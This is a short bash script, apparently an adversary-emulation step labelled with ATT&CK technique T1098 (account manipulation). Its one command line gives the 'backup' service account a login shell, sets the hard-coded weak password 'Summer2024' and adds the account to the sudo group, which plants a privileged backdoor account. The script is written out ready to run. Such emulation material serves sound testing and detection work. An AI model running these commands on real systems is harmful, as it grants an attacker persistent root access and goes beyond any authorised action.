#!/bin/bash
# T1098: A service account gets a shell, a password and the rights of sudo.
usermod -s /bin/bash backup; echo 'backup:Summer2024' | chpasswd; usermod -aG sudo backup
